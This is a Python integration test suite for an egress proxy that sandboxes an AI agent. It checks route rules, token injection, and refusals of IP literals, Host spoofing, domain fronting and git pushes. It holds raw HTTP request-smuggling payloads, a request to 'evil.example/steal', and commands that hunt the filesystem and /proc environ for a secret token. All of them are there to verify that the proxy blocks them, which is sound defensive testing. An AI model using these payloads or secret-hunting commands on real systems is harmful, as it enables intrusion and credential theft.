"""The egress proxy end to end: an agent with no network, its sidecar, and a private upstream.

Route rules (paths, methods, ports), credential injection (the upstream receives the real token,
the agent only ever had a placeholder and cannot find the token anywhere in its container), TLS
passthrough and SNI pinning, IP-literal and Host-spoofing refusals, git pushes, structural
blocks over a raw socket, internal names routed to a dummy service in the sidecar, and the log.
Everything runs on a ``--internal`` network this test creates and removes (see ``_egress_lab``).
"""

from __future__ import annotations

import base64
import json
import tempfile
import unittest
from pathlib import Path

from bot_bottle import images
from tests._docker import skip_unless_docker
from tests.integration._egress_lab import RUN_DIR, Lab, docker, sha256

REAL_TOKEN = "lab-real-token-7c1e4b9a2f60d835"
REAL_KEY = "lab-real-key-0b93f1d27ac54e68"
PLACEHOLDER = "placeholder-not-a-real-token"
INTERNAL_PORT = 9999

POLICY = {
    "version": 2,
    "log": 2,
    "internal_services": {"dummy": INTERNAL_PORT},
    "routes": [
        {"host": "allowed.example", "ports": [80, 443],
         "matches": [{"paths": ["/v1/"], "methods": ["GET"]}, {"paths": ["/upload"], "methods": ["POST"]},
                     {"paths": ["/r.git/"]}]},
        {"host": "api.example", "ports": [80, 443], "auth": {"scheme": "bearer", "token_ref": "API_TOKEN"},
         "dlp": {"outbound_on_match": "redact"}},
        {"host": "key.example", "ports": [443],
         "auth": {"scheme": "header", "token_ref": "KEY_TOKEN", "header": "x-api-key"}},
        {"host": "files.example", "ports": [443], "tls_passthrough": True},
        {"host": "open.example", "ports": [80, 443]},
    ],
}
SECRETS = {"credentials": {"API_TOKEN": REAL_TOKEN, "KEY_TOKEN": REAL_KEY}, "known_secrets": {}}


@skip_unless_docker()
class EgressProxyTest(unittest.TestCase):
    lab: Lab

    @classmethod
    def setUpClass(cls) -> None:
        cls.lab = Lab(cls, POLICY, SECRETS, agent_env={"API_TOKEN": PLACEHOLDER, "KEY_TOKEN": PLACEHOLDER},
                      internal_service_port=INTERNAL_PORT)

    # -- routes ----------------------------------------------------------------------------------

    def test_path_and_method_rules(self) -> None:
        for method, path, want in (
            ("GET", "/v1/items", "200"),
            ("POST", "/v1/items", "403"),
            ("GET", "/v2/items", "403"),
            ("GET", "/v1/../admin", "403"),
            ("POST", "/upload", "200"),
            ("GET", "/upload", "403"),
        ):
            with self.subTest(method=method, path=path):
                status, body, _ = self.lab.curl("--path-as-is", "-X", method, f"https://allowed.example{path}")
                self.assertEqual(status, want, body)
                if want == "403":
                    self.assertIn("'match'", body)
        self.assertEqual(self.lab.hits_for("/v2/items"), [])
        self.assertEqual(len(self.lab.hits_for("/v1/items")), 1)

    def test_unlisted_host_and_port(self) -> None:
        status, body, _ = self.lab.curl("http://evil.example/steal")
        self.assertEqual(status, "403")
        self.assertIn("default-deny", body)
        status, _, code = self.lab.curl("-o", "/dev/null", "-w", "%{http_connect}", "https://open.example:8443/")
        self.assertNotEqual(code, 0)
        self.assertIn("403", status)
        self.assertEqual(self.lab.hits_for("/steal"), [])
        refused = [d for d in self.lab.decisions() if d["connect"] and d["port"] == 8443]
        self.assertEqual(refused[-1]["rule"], "port")

    def test_ip_literal_refused_over_http_and_connect(self) -> None:
        ip = self.lab.ip(self.lab.upstream)
        status, body, _ = self.lab.curl(f"http://{ip}/by-ip")
        self.assertEqual(status, "403")
        self.assertIn("ip-literal", body)
        _, _, code = self.lab.curl("-k", f"https://{ip}/by-ip-tls")
        self.assertNotEqual(code, 0)
        self.assertEqual(self.lab.hits_for("/by-ip") + self.lab.hits_for("/by-ip-tls"), [])

    def test_host_header_cannot_redirect_the_decision(self) -> None:
        status, body, _ = self.lab.curl("-H", "Host: open.example", "http://evil.example/spoof1")
        self.assertEqual(status, "403")
        self.assertIn("default-deny", body)
        status, body, _ = self.lab.curl("-H", "Host: evil.example", "http://open.example/spoof2")
        self.assertEqual(status, "403")
        self.assertIn("host-header-mismatch", body)
        status, body, _ = self.lab.curl("-H", "Host: evil.example", "https://open.example/spoof3")
        self.assertEqual(status, "403")
        self.assertIn("host-header-mismatch", body)
        for path in ("/spoof1", "/spoof2", "/spoof3"):
            self.assertEqual(self.lab.hits_for(path), [], path)

    def test_git_push_refused_on_an_allowed_route(self) -> None:
        status, body, _ = self.lab.curl("-X", "POST", "-H", "Content-Type: application/x-git-receive-pack-request",
                                        "--data-binary", "0000", "https://allowed.example/r.git/git-receive-pack")
        self.assertEqual(status, "403")
        self.assertIn("git-push", body)
        status, body, _ = self.lab.curl("https://allowed.example/r.git/info/refs?service=git-receive-pack")
        self.assertEqual(status, "403")
        # A real git client gets the same answer.
        result = self.lab.agent_sh(
            "cd /tmp && rm -rf push-test && git init -q push-test && cd push-test && "
            "git -c user.name=t -c user.email=t@example.invalid commit -q --allow-empty -m one && "
            f"git -c http.sslCAInfo={RUN_DIR}/ca.crt push https://allowed.example/r.git HEAD:main 2>&1 || true")
        self.assertIn("403", result.stdout)
        self.assertEqual(self.lab.hits_for("/r.git/git-receive-pack"), [])
        self.assertEqual(self.lab.hits_for("/r.git/info/refs"), [])
        # Fetching is fine: the route allows /r.git/.
        status, _, _ = self.lab.curl("https://allowed.example/r.git/info/refs?service=git-upload-pack")
        self.assertEqual(status, "200")

    # -- credentials -----------------------------------------------------------------------------

    def test_bearer_injection_replaces_what_the_agent_sent(self) -> None:
        status, body, _ = self.lab.curl("-H", f"Authorization: Bearer {PLACEHOLDER}", "-H", f"X-Api-Key: {PLACEHOLDER}",
                                        "https://api.example/inject-bearer")
        self.assertEqual(status, "200", body)
        self.assertNotIn(REAL_TOKEN, body)
        (hit,) = self.lab.hits_for("/inject-bearer")
        self.assertEqual(hit["authorization"], [f"Bearer {REAL_TOKEN}"])
        self.assertEqual(hit["x-api-key"], [])  # the agent's provider key header is gone
        self.assertIn(sha256(f"Bearer {REAL_TOKEN}"), body)  # the answer only carries a hash

    def test_header_injection(self) -> None:
        status, body, _ = self.lab.curl("-H", f"x-api-key: {PLACEHOLDER}", "-H", "Authorization: Basic abc",
                                        "https://key.example/inject-key")
        self.assertEqual(status, "200", body)
        (hit,) = self.lab.hits_for("/inject-key")
        self.assertEqual((hit["x-api-key"], hit["authorization"]), ([REAL_KEY], []))

    def test_injection_even_when_the_agent_sends_nothing(self) -> None:
        status, _, _ = self.lab.curl("https://api.example/inject-bare")
        self.assertEqual(status, "200")
        self.assertEqual(self.lab.hits_for("/inject-bare")[0]["authorization"], [f"Bearer {REAL_TOKEN}"])

    def test_no_credential_over_plain_http(self) -> None:
        status, body, _ = self.lab.curl("-H", f"Authorization: Bearer {PLACEHOLDER}", "http://api.example/clear")
        self.assertEqual(status, "403")
        self.assertIn("only sent over TLS", body)
        self.assertEqual(self.lab.hits_for("/clear"), [])

    def test_the_agent_cannot_find_the_real_token_anywhere(self) -> None:
        self.lab.curl("https://api.example/before-search")
        env = self.lab.agent_sh("env; cat /proc/1/environ | tr '\\0' '\\n'", user="root").stdout
        self.assertIn(f"API_TOKEN={PLACEHOLDER}", env)
        for token in (REAL_TOKEN, REAL_KEY, base64.b64encode(REAL_TOKEN.encode()).decode()):
            with self.subTest(token=token[:12]):
                self.assertNotIn(token, env)
                search = self.lab.agent_sh(
                    f"grep -rlsF --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev {token} / ; echo done",
                    user="root", timeout=300)
                self.assertEqual(search.stdout.strip(), "done", search.stdout)
                self.assertNotIn(token, docker("inspect", self.lab.agent).stdout)
        # Nor does it leak through the shared volume, the sidecar's output or its log.
        self.assertNotIn(REAL_TOKEN, self.lab.agent_sh(f"cat {RUN_DIR}/ca.crt").stdout)
        self.assertNotIn(REAL_TOKEN, self.lab.logs(self.lab.sidecar))
        self.assertNotIn(REAL_TOKEN, docker("exec", self.lab.sidecar, "cat", "/var/log/bottle/egress.jsonl").stdout)
        self.assertNotIn(REAL_TOKEN, docker("exec", self.lab.sidecar, "cat", "/etc/bot-bottle/policy.json").stdout)

    def test_secrets_file_is_private_in_the_sidecar(self) -> None:
        # The init's (root) and the proxy's (its account's group) to read; no one else's.
        mode = docker("exec", self.lab.sidecar, "stat", "-c", "%a %U %G", "/etc/bot-bottle/secrets.json").stdout.strip()
        self.assertEqual(mode, "640 root bottle-proxy")

    # -- TLS -------------------------------------------------------------------------------------

    def test_passthrough_tunnel_is_untouched(self) -> None:
        # The upstream's own certificate reaches the agent: only its CA verifies it.
        status, body, code = self.lab.curl("--cacert", "/tmp/upstream-ca.pem", "-H", "Authorization: Bearer agent-own",
                                           "https://files.example/pt", bottle_ca=False)
        self.assertEqual((status, code), ("200", 0), body)
        self.assertIn('"tls": true', body)
        (hit,) = self.lab.hits_for("/pt")
        self.assertEqual(hit["authorization"], ["Bearer agent-own"])  # nothing stripped inside the tunnel
        # An intercepted host shows the bottle's certificate instead, which that CA does not verify.
        _, _, code = self.lab.curl("--cacert", "/tmp/upstream-ca.pem", "https://open.example/intercepted",
                                   bottle_ca=False)
        self.assertEqual(code, 60)
        tunnel = [d for d in self.lab.decisions() if d["connect"] and d["host"] == "files.example"]
        self.assertEqual(tunnel[-1]["tls"], "passthrough")
        self.assertEqual([d for d in self.lab.decisions() if d["path"] == "/pt"], [])  # only host-level rules

    def test_passthrough_with_another_sni_is_intercepted_and_judged(self) -> None:
        # CONNECT files.example, but TLS names evil.example (domain fronting): not passed through.
        status, body, _ = self.lab.curl("--connect-to", "evil.example:443:files.example:443",
                                        "https://evil.example/fronted")
        self.assertEqual(status, "403", body)
        self.assertIn("host-header-mismatch", body)
        self.assertEqual(self.lab.hits_for("/fronted"), [])

    # -- structure -------------------------------------------------------------------------------

    def test_structural_blocks_over_a_raw_socket(self) -> None:
        cases = (
            (b"GET http://open.example/raw-nul HTTP/1.1\r\nHost: open.example\r\nX-A: a\x00b\r\n\r\n",
             "/raw-nul", "header-injection", "403"),
            (b"GET http://open.example/raw-fold HTTP/1.1\r\nHost: open.example\r\nX-A: a\r\n b\r\n\r\n",
             "/raw-fold", "obs-fold", "403"),
            (b"POST http://open.example/raw-te HTTP/1.1\r\nHost: open.example\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
             "/raw-te", "smuggling-transfer-encoding", "403"),
            (b"GET http://open.example/raw-big HTTP/1.1\r\nHost: open.example\r\nX-Big: " + b"a" * 20000 + b"\r\n\r\n",
             "/raw-big", "header-too-large", "403"),
            # mitmproxy would answer these with its own 400 before any hook; the addon lets them
            # reach its hooks (and no further), so our 403 names the rule.
            (b"POST http://open.example/raw-clte HTTP/1.1\r\nHost: open.example\r\nContent-Length: 4\r\n"
             b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "/raw-clte", "smuggling-cl-te", "403"),
            (b"POST http://open.example/raw-cl HTTP/1.1\r\nHost: open.example\r\nContent-Length: 1\r\n"
             b"Content-Length: 2\r\n\r\nab", "/raw-cl", "smuggling-content-length", "403"),
            # Repeats of one value: the bytes after the head are never read as a second request.
            (b"POST http://open.example/raw-cl-same HTTP/1.1\r\nHost: open.example\r\nContent-Length: 32\r\n"
             b"Content-Length: 32\r\n\r\nGET http://open.example/smuggled HTTP/1.1\r\n\r\n",
             "/raw-cl-same", "smuggling-content-length", "403"),
        )
        for request, path, rule, status in cases:
            with self.subTest(rule=rule):
                answer = self.lab.raw(request)
                self.assertTrue(answer.startswith(f"HTTP/1.1 {status}"), answer[:200])
                self.assertEqual(answer.count("HTTP/1.1 "), 1, answer[:400])  # one request, one answer
                if status == "403":
                    self.assertIn(rule, answer)
                self.assertEqual(self.lab.decision_for(path)["rule"], rule)
                self.assertEqual(self.lab.hits_for(path), [])
        self.assertEqual(self.lab.hits_for("/smuggled"), [])

    # -- internal names ----------------------------------------------------------------------------

    def test_internal_name_reaches_the_dummy_service(self) -> None:
        status, body, _ = self.lab.curl("http://dummy.bottle.internal/index.html")
        self.assertEqual(status, "200", body)
        self.assertIn("hello-from-the-internal-service", body)
        record = self.lab.decision_for("/index.html")
        self.assertEqual((record["rule"], record["route"], record["host"]),
                         ("internal-service", "internal_services.dummy", "dummy.bottle.internal"))

    def test_unlisted_internal_name_and_direct_loopback_refused(self) -> None:
        status, body, _ = self.lab.curl("http://git-gate.bottle.internal/")
        self.assertEqual(status, "403")
        self.assertIn("internal-name", body)
        status, body, _ = self.lab.curl(f"http://127.0.0.1:{INTERNAL_PORT}/", "--noproxy", "")
        self.assertEqual(status, "403")
        self.assertIn("ip-literal", body)
        status, body, _ = self.lab.curl(f"http://localhost:{INTERNAL_PORT}/", "--noproxy", "")
        self.assertEqual(status, "403")
        self.assertIn("sidecar-local", body)

    # -- the log ---------------------------------------------------------------------------------

    def test_log_lines(self) -> None:
        self.lab.curl("https://open.example/logged?token=s3cr3t-in-query")
        self.lab.curl("-H", "Authorization: Bearer s3cr3t-in-header", "http://evil.example/logged-deny")
        allow = self.lab.decision_for("/logged")
        deny = self.lab.decision_for("/logged-deny")
        self.assertEqual((allow["decision"], allow["status"], allow["route"]), ("allow", 200, "routes[4] (open.example)"))
        self.assertGreater(allow["response_bytes"], 0)
        self.assertIsInstance(allow["duration_ms"], float)
        self.assertEqual((deny["decision"], deny["rule"]), ("deny", "default-deny"))
        everything = docker("exec", self.lab.sidecar, "cat", "/var/log/bottle/egress.jsonl").stdout + \
            docker("logs", self.lab.sidecar).stdout
        self.assertNotIn("s3cr3t", everything)


@skip_unless_docker()
class MissingCredentialTest(unittest.TestCase):
    def test_sidecar_refuses_to_start_naming_the_token_ref(self) -> None:
        image = images.ensure_image(images.sidecar_image())
        policy = {"version": 2, "routes": [{"host": "api.example", "auth": {"scheme": "bearer", "token_ref": "MISSING_REF"}}]}
        secrets_doc = {"credentials": {"OTHER_REF": "value-that-must-not-show"}}
        cid = docker("create", "--network", "none", "--label", "bot-bottle.test=egress-missing-credential", image).stdout.strip()
        self.addCleanup(docker, "rm", "-f", "-v", cid, check=False)
        with tempfile.TemporaryDirectory() as tmp:
            (Path(tmp) / "policy.json").write_text(json.dumps(policy))
            (Path(tmp) / "secrets.json").write_text(json.dumps(secrets_doc))
            docker("cp", f"{tmp}/.", f"{cid}:/etc/bot-bottle")
        docker("start", cid)
        code = docker("wait", cid, timeout=60).stdout.strip()
        self.assertEqual(code, "1")
        logs = docker("logs", cid)
        text = logs.stdout + logs.stderr
        self.assertIn("start-failed", text)
        self.assertIn("MISSING_REF", text)
        self.assertNotIn("value-that-must-not-show", text)


if __name__ == "__main__":
    unittest.main()
